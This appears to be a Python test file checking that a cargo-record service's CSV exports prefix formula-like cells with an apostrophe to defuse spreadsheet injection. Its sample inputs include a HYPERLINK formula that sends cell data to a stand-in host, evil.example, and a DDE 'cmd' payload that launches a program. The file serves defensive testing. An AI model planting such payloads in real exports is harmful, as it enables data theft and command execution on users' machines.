"""CSV exports of the joint record never hand a spreadsheet a formula: imported text that starts
with ``= + - @`` (or a tab or carriage return) leaves with a ``'`` before it, and the exported
cargo rows still import back as the same shipments."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.service.test_implement import CSV, _import, aid  # noqa: F401 (aid is a fixture)
from tests.service.world import World

HOSTILE = {
    "Vessel name": '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "Country": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Commodity": "+Wheat",
}


def hostile_file() -> bytes:
    text = CSV.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    first = rows[1]
    for column, value in HOSTILE.items():
        first[header.index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, first, *rows[2:40]])
    return out.getvalue().encode()


def test_exported_cells_never_start_a_formula(world: World, aid: int) -> None:  # noqa: F811
    report = _import(world, "un", aid, "v.csv", hostile_file()).json()
    assert report["new"] == 39, report
    voyages = world.get("ua", f"/api/agreements/{aid}/record/voyages.csv").text
    cells = [cell for row in csv.reader(io.StringIO(voyages)) for cell in row]
    # before: the cells went out as they came in, and a spreadsheet ran them
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    for value in HOSTILE.values():
        assert "'" + value in cells
    record: dict[str, Any] = world.get("ua", f"/api/agreements/{aid}/record").json()
    checked = 0
    for table in record["figures"]:
        exported = world.get("ua", f"/api/agreements/{aid}/record/{table}.csv")
        assert exported.status_code == 200
        for row in csv.reader(io.StringIO(exported.text)):
            for cell in row:
                checked += 1
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table, cell)
    assert checked
    again = _import(world, "ru", aid, "voyages.csv", voyages.encode()).json()
    assert (again["new"], again["duplicates"]) == (0, 39), again
